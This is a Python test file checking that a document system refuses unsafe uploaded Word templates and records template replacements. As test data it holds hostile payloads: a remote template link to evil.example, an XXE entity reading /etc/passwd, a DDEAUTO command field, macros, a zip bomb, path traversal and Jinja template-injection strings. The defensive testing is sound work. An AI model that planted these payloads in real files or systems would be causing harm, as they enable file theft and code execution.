"""Word templates that somebody sends: what may come in, what each refusal names, and what a copy is written into afterwards."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping

import docx
import pytest

from states.paper_wording import TemplatePart
from states.refusals import Refusal
from states.regime import regime_on
from states.vocabulary import Role
from states.wording import sentence
from tests.support.world import World
from workflow.attachments import Attachments
from workflow.commands.administration.replace_template import ReplaceTemplate
from workflow.documents.sample_papers import ON, Samples
from workflow.documents.template_trial import document_problems
from workflow.documents.word import as_word, standard
from workflow.documents.wording_source import document_at
from workflow.documents.writing_style import Office
from workflow.ids import new_id
from workflow.ledger.verify import verify
from workflow.models.paper import PaperKind
from workflow.queries.papers import EDITABLE
from workflow.store import Store

SAMPLES = Samples(
    office=Office(name="UBND xã Đồng Mẫu", parent="Ủy ban nhân dân huyện Mẫu", place="Đồng Mẫu"), regime=regime_on(ON)
)
ELSEWHERE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" TargetMode="External" Target="http://evil.example/t.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]><x>&b;&f;</x>'
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def document(*lines: str) -> bytes:
    made = docx.Document()
    for line in lines:
        made.add_paragraph(line)
    target = io.BytesIO()
    made.save(target)
    return target.getvalue()


def rebuilt(more: Mapping[str, str | bytes], change: Callable[[str, bytes], bytes] = lambda _name, part: part) -> bytes:
    """A plain document with parts added or put in the place of its own."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(document("{{ about }}"))) as old,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name not in more:
                new.writestr(name, change(name, old.read(name)))
        for name, part in more.items():
            new.writestr(name, part)
    return target.getvalue()


def with_types(old: bytes, new: bytes) -> bytes:
    return rebuilt({}, lambda name, part: part.replace(old, new) if name == "[Content_Types].xml" else part)


def problems(data: bytes, paper: str = "decision") -> list[Refusal]:
    found = document_problems(paper, data, SAMPLES)
    for each in found:  # every one can be said
        assert sentence(each, "vi") and sentence(each, "en")
    return found


def codes(data: bytes) -> set[str]:
    return {each.code for each in problems(data)}


@pytest.mark.parametrize("kind", EDITABLE)
def test_the_built_in_documents_are_templates_themselves(kind: PaperKind) -> None:
    assert problems(standard(kind), kind.value) == []


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("no document", b"%PDF-1.7 text", "template_not_word"),
        ("an empty file", b"", "template_not_word"),
        ("a zip of something else", rebuilt({"word/document.xml": "<x/>"}), "template_not_word"),
        ("twenty megabytes", b"PK\x03\x04" + bytes(20_000_000), "template_too_large"),
        ("a bomb", rebuilt({"word/media/image1.png": bytes(15_000_000)}), "template_unpacks_too_large"),
        ("many parts", rebuilt({f"word/p{n}.xml": "<x/>" for n in range(300)}), "template_unpacks_too_large"),
        ("macros", rebuilt({"word/vbaProject.bin": b"x"}), "template_has_macros"),
        ("a macro document", with_types(b"wordprocessingml.document.main", b"x.macroEnabled.main"), "template_has_macros"),
        ("an embedded object", rebuilt({"word/embeddings/oleObject1.bin": b"x"}), "template_part_unfit"),
        ("a way out of the package", rebuilt({"word/../../evil.xml": "<x/>"}), "template_part_unfit"),
        ("a template from elsewhere", rebuilt({"word/_rels/settings.xml.rels": ELSEWHERE}), "template_links_outside"),
        ("entities", rebuilt({"word/settings.xml": ENTITIES}), "template_xml_unfit"),
        ("entities in the text", rebuilt({"word/document.xml": ENTITIES}), "template_xml_unfit"),
        ("entities in another encoding", rebuilt({"word/settings.xml": ENTITIES.encode("utf-16")}), "template_xml_unfit"),
        ("another document inside", rebuilt({"word/footnotes.xml": f"<w:x {W}><w:altChunk/></w:x>"}), "template_part_unfit"),
        (
            "a field that starts a program",
            rebuilt({"word/footnotes.xml": f'<w:x {W}><w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText>'
                     f'<w:instrText>EAUTO c:\\cmd</w:instrText><w:fldChar w:fldCharType="end"/></w:x>'}),
            "template_field_unfit",
        ),
        ("a picture from elsewhere", rebuilt({"word/footnotes.xml": f'<w:fldSimple {W} w:instr=" INCLUDEPICTURE http://x "/>'}),
         "template_field_unfit"),
    ],
)  # fmt: skip
def test_what_acts_or_never_ends_does_not_come_in(name: str, data: bytes, code: str) -> None:
    assert code in codes(data), name


@pytest.mark.parametrize(
    ("order", "code", "wrong"),
    [
        ("{{ ''.__class__.__mro__ }}", "template_name_unknown", "''.__class__"),
        ("{{ about.__class__ }}", "template_name_unknown", "about.__class__"),
        ("{{ masthead['__class__'] }}", "template_name_unknown", "masthead['__class__']"),
        ("{{ abuot }}", "template_name_unknown", "abuot"),
        ("{{ config }}{{ self }}", "template_name_unknown", "self"),
        ("{{ masthead.items() }}", "template_order_unfit", "call"),
        ("{{ about | attr('x') }}", "template_order_unfit", "| attr"),
        ("{{ about | safe }}", "template_order_unfit", "| safe"),
        ("{% for x in range(9999999) %}{{ x }}{% endfor %}", "template_order_unfit", "call"),
        ("{% for a in grounds %}{% for b in grounds %}x{% endfor %}{% endfor %}", "template_order_unfit", "for"),
        ("{% set x = 1 %}", "template_order_unfit", "assign"),
        ("{% include 'x' %}", "template_order_unfit", "include"),
        ("{{ about * 999999999 }}", "template_order_unfit", "mul"),
        ("{{ 9 ** 9 ** 9 }}", "template_order_unfit", "pow"),
        ("{{ annex }}", "template_prints_list", "annex"),
        ("{{ articles }}", "template_prints_list", "articles"),
    ],
)
def test_an_order_that_may_not_stand_is_named_with_its_place(order: str, code: str, wrong: str) -> None:
    found = problems(document("Kính gửi ai đó", f"Đoạn hai: {order}"))
    named = [(each.code, each.facts.get("wrong")) for each in found]
    assert (code, wrong) in named
    assert all(str(each.facts["where"]).startswith("Đoạn hai:") for each in found)


def test_a_broken_order_and_a_list_that_may_be_missing_are_told() -> None:
    assert codes(document("Số {{ about")) == {"template_order_broken"}
    assert {each.code for each in problems(document("{{ table.total | join(' ') }}"), "refusal")} == {
        "template_not_filled"
    }


def test_what_stands_in_the_header_and_the_properties_is_looked_at_too() -> None:
    made = docx.Document()
    made.add_paragraph("{{ about }}")
    made.sections[0].header.paragraphs[0].text = "{{ nothing }}"
    made.core_properties.title = "{{ ''.__class__ }}"
    target = io.BytesIO()
    made.save(target)
    wrong = {each.facts["wrong"] for each in problems(target.getvalue())}
    assert wrong == {"nothing", "''.__class__"}


def test_a_copy_is_written_into_the_document_in_force_at_its_entry(store: Store) -> None:
    world = World.open(store)
    data = document("Mẫu riêng của xã: {{ about }}")
    assert problems(data, "refusal") == []
    digest = Attachments(store.files).keep(world.organisation_id, data)
    order = ReplaceTemplate(
        on=new_id(), paper="refusal", part=TemplatePart.DOCUMENT, follows=0, reason="Mẫu của xã.", sha256=digest
    )
    entry = world.do(order, world.actor(Role.ADMINISTRATOR)).index
    with store.reading() as driver:
        found = [document_at(driver, world.organisation_id, "refusal", at) for at in (entry, entry + 1)]
        assert document_at(driver, world.organisation_id, "decision", entry + 1) is None
    assert found == [None, digest]
    sample = SAMPLES.of("refusal")[0]
    said = docx.Document(io.BytesIO(as_word(PaperKind.REFUSAL, sample.data, data))).paragraphs[0].text
    assert said == f"Mẫu riêng của xã: {sample.data['about']}"
    assert verify(store).is_whole

    (store.files / world.organisation_id / digest).write_bytes(b"another")
    assert {each.code for each in verify(store).findings} == {"file_changed"}
